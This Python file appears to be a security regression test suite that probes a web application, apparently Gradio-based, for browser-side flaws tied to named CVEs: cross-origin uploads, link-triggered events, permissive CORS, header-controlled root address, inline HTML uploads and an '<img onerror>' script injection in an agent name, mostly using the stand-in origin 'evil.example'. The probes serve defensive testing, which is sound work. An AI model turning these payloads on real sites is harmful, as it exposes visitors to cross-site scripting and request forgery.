"""Using the browser of somebody who visits the page."""

import contextlib
import secrets
from urllib.parse import urlencode

from tests.agentfabric.attacker import Refused
from tests.agentfabric.attacks.visitor import begin, configure
from tests.agentfabric.target import Target


def upload_by_another_page(target: Target) -> bool:
    """CVE-2024-1727: any page makes the browser of somebody who is logged in upload files."""
    with contextlib.suppress(Refused):
        path = target.victim.upload("evil.html", b"<script>", origin="http://evil.example")
        return target.victim.read(path).status == 200
    return False


def event_by_a_link(target: Target) -> bool:
    """As CVE-2024-1727: an event with its data in an address, which any page can link to."""
    number, _ = target.victim.function("change_lang")
    asked = {"fn_index": number, "session_hash": "x", "data": '["en"]'}
    return "process_completed" in target.victim.get(f"/queue/join?{urlencode(asked)}").text


def answer_for_another_page(target: Target) -> bool:
    """CVE-2024-47084, CVE-2024-47165, CVE-2025-5320: other pages may read what the page answers."""
    headers = target.victim.get("/", origin="http://evil.example").headers
    return headers.get("access-control-allow-origin") in ("*", "http://evil.example")


def address_of_the_page(target: Target) -> bool:
    """CVE-2024-47870: a header says where the page sends what its visitors type."""
    answer = target.attacker.get("/", **{"x-direct-url": "http://evil.example"})
    return '"root":"http://evil.example"' in answer.text


def script_as_an_upload(target: Target) -> bool:
    """CVE-2024-47872: an uploaded page runs scripts in the name of who opens it."""
    path = target.attacker.upload("evil.html", b"<script>alert(1)</script>")
    headers = target.attacker.read(path).headers
    held = "attachment" in headers.get("content-disposition", "")
    return headers["content-type"].startswith("text/html") and not held


def script_as_a_name(target: Target) -> bool:
    """An agent's name is put into the page as it is."""
    begin(target.attacker)
    name = f"<img src=x onerror={secrets.token_hex(4)}>"
    return name in str(configure(target.attacker, name=name)[-1]["output"])


ATTACKS = [
    upload_by_another_page,
    event_by_a_link,
    answer_for_another_page,
    address_of_the_page,
    script_as_an_upload,
    script_as_a_name,
]
